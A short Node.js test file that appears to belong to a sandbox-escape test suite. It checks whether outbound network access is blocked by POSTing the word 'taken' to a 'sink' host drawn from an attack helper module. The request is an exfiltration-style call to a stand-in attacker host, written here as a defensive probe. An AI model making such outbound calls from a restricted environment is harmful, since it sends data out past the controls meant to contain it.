// class: network
// rule: outbound_connectivity
// success: Node fetches from the outside
// proof: sink
'use strict';
const { attempt, SINK } = require('./attack.js');
attempt(async () => {
    try {
        return (await fetch(`http://${SINK.host}:${SINK.port}/`, { method: 'POST', body: 'taken' })).ok;
    } catch (error) {
        throw error.cause || error;
    }
});
